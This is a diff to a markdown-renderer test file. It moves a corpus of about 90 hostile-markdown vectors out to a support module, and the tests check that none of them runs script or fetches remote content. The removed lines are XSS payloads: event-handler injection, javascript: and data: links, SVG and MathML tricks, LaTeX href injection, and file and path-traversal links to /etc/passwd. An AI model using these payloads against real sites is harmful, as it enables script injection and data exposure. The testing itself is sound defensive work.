@@ -1,108 +1,12 @@
 // @vitest-environment happy-dom
 import { afterEach, describe, expect, it } from 'vitest'
 import { Markdown } from '../../../src/renderer/markdown'
-import { linkAddress } from '../../../src/renderer/markdown/address'
+import { linkAddress } from '../../../src/shared/markdown/address'
+import { attackVectors } from '../../support/markdown-attacks'
 import { mount } from './mount'
 
 const REMOTE = 'https://canary.example'
 const IMAGE = `data:image/png;base64,iVBORw0KGgo=`
-
-/** Markup that has run, or fetched, somewhere: raw, in every construct of markdown, and on the way through our own markup. */
-const vectors: string[] = [
-  '<script>window.pwn = 1</script>',
-  '<ScRiPt src="https://canary.example/x.js"></ScRiPt>',
-  '<script\n>window.pwn=1</script\n>',
-  '<<script>window.pwn=1//<</script>',
-  '<img src=x onerror="window.pwn=1">',
-  '<img src="https://canary.example/a.png" onload=window.pwn=1>',
-  '<img srcset="https://canary.example/a.png 1x">',
-  '<svg onload=window.pwn=1></svg>',
-  '<svg><script>window.pwn=1</script></svg>',
-  '<svg><use href="https://canary.example/x.svg#a"/></svg>',
-  '<svg><foreignObject><iframe src="javascript:window.pwn=1"></iframe></foreignObject></svg>',
-  '<math><mtext><img src=x onerror=window.pwn=1></mtext></math>',
-  '<math href="javascript:window.pwn=1">x</math>',
-  '<iframe src="https://canary.example/"></iframe>',
-  '<iframe srcdoc="<script>parent.pwn=1</script>"></iframe>',
-  '<iframe src="javascript:parent.pwn=1"></iframe>',
-  '<object data="https://canary.example/x.swf"></object>',
-  '<embed src="https://canary.example/x.pdf">',
-  '<video src="https://canary.example/v.mp4" poster="https://canary.example/p.png" autoplay></video>',
-  '<video><source src="https://canary.example/v.mp4" onerror="window.pwn=1"></video>',
-  '<audio src="https://canary.example/a.mp3" autoplay></audio>',
-  '<link rel="stylesheet" href="https://canary.example/x.css">',
-  '<link rel=prefetch href="https://canary.example/x">',
-  '<meta http-equiv="refresh" content="0;url=https://canary.example/">',
-  '<base href="https://canary.example/">',
-  '<style>@import "https://canary.example/x.css";</style>',
-  '<div style="background:url(https://canary.example/x.png)">x</div>',
-  '<form action="https://canary.example/"><input name=q autofocus onfocus=window.pwn=1><button>go</button></form>',
-  '<a href="javascript:window.pwn=1">click</a>',
-  '<a href=" java\nscript:window.pwn=1">click</a>',
-  '<a href="&#106;avascript:window.pwn=1">click</a>',
-  '<a href="https://canary.example/" onclick="window.pwn=1">click</a>',
-  '<details open ontoggle=window.pwn=1>x</details>',
-  '<body onload=window.pwn=1>',
-  '<marquee onstart=window.pwn=1>x</marquee>',
-  '<input type=image src="https://canary.example/i.png">',
-  '<table background="https://canary.example/t.png"><tr><td>x</td></tr></table>',
-  '<b onmouseover=window.pwn=1>bold</b>',
-  '<sub style="x:expression(window.pwn=1)">x</sub>',
-  '<template><script>window.pwn=1</script></template>',
-  '<noscript><p title="</noscript><img src=x onerror=window.pwn=1>"></noscript>',
-  '<!--><img src=x onerror=window.pwn=1>-->',
-  '<![CDATA[<img src=x onerror=window.pwn=1>]]>',
-  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">window.pwn=1</x:script>',
-  '[x](javascript:window.pwn=1)',
-  '[x](JaVaScRiPt:window.pwn=1)',
-  '[x](java&#x0A;script:window.pwn=1)',
-  '[x](&#x6A;avascript:window.pwn=1)',
-  '[x](<javascript:window.pwn=1>)',
-  '[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduPTE8L3NjcmlwdD4=)',
-  '[x](vbscript:msgbox(1))',
-  '[x](file:///etc/passwd)',
-  '[x](blob:https://canary.example/1)',
-  '[x](//canary.example/x)',
-  '[x](\\\\canary.example\\share)',
-  '[x](ms-msdt:/id)',
-  '[x](https://user:pass@canary.example/)',
-  '[x](https://e.example "t\\" onmouseover=\\"window.pwn=1")',
-  '<javascript:window.pwn=1>',
-  '[x][r]\n\n[r]: javascript:window.pwn=1',
-  '[r]: javascript:window.pwn=1 "t"\n\nlater [r] and ![r]',
-  '![x](https://canary.example/i.png)',
-  '![x](javascript:window.pwn=1)',
-  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd249MSIvPg==)',
-  '![x](data:text/html,<script>window.pwn=1</script>)',
-  '![x](//canary.example/i.png)',
-  '![" onerror="window.pwn=1](https://canary.example/i.png "t")',
-  '![x][i]\n\n[i]: https://canary.example/i.png',
-  '[![x](https://canary.example/i.png)](javascript:window.pwn=1)',
-  '```html onload=window.pwn=1\n<script>window.pwn=1</script>\n```',
-  '```"><img src=x onerror=window.pwn=1>\nx\n```',
-  '`<img src=x onerror=window.pwn=1>`',
-  '| <img src=x onerror=window.pwn=1> | b |\n|---|---|\n| <script>window.pwn=1</script> | ![x](https://canary.example/t.png) |',
-  '- <img src=x onerror=window.pwn=1>\n- [x](javascript:window.pwn=1)',
-  '> <iframe src="https://canary.example/"></iframe>',
-  '# <img src=x onerror=window.pwn=1>',
-  '[^a]\n\n[^a]: <img src=x onerror=window.pwn=1> ![x](https://canary.example/f.png)',
-  '[^"><script>window.pwn=1</script>]\n\n[^"><script>window.pwn=1</script>]: x',
-  '&lt;script&gt;window.pwn=1&lt;/script&gt;',
-  '&#60;img src=x onerror=window.pwn=1&#62;',
-  '$\\href{javascript:window.pwn=1}{x}$',
-  '$\\url{https://canary.example/}$',
-  '$$\n\\includegraphics{https://canary.example/i.png}\n$$',
-  '$\\htmlStyle{background:url(https://canary.example/x)}{x}$',
-  '$\\htmlData{onclick=window.pwn=1}{x}$',
-  '$\\text{<img src=x onerror=window.pwn=1>}$',
-  '<div>\n\n<script>window.pwn=1</script>\n\n</div>',
-  '**<img src=x onerror=window.pwn=1>**',
-  '<kbd><img src=x onerror=window.pwn=1></kbd>',
-  '<a href="https://e.example/"><img src="https://canary.example/a.png"></a>',
-  `![x](${IMAGE}"onerror=window.pwn=1)`,
-  '![x](app://local/attachment/../../etc/passwd)',
-  '![x](app://local/index.html)',
-]
 
 afterEach(() => {
   document.body.replaceChildren()
@@ -136,11 +40,11 @@ function findings(container: HTMLElement): string[] {
 }
 
 describe('hostile markdown', () => {
-  it('S05: has a corpus of more than 60 vectors', () => {
-    expect(vectors.length).toBeGreaterThan(60)
+  it('S05: has a corpus of more than 60 attackVectors', () => {
+    expect(attackVectors.length).toBeGreaterThan(60)
   })
 
-  it.each(vectors)('S05 S07: %s neither runs nor fetches, whole or half-arrived', async (vector) => {
+  it.each(attackVectors)('S05 S07: %s neither runs nor fetches, whole or half-arrived', async (vector) => {
     const whole = mount(<Markdown text={`before ${vector}\n\n${vector}\n\nafter`} isStreaming={false} />)
     expect(findings(whole.container)).toEqual([])
     await whole.until(() => (vector.includes('$') ? whole.container.querySelector('.katex, .md-tex') !== null : true))
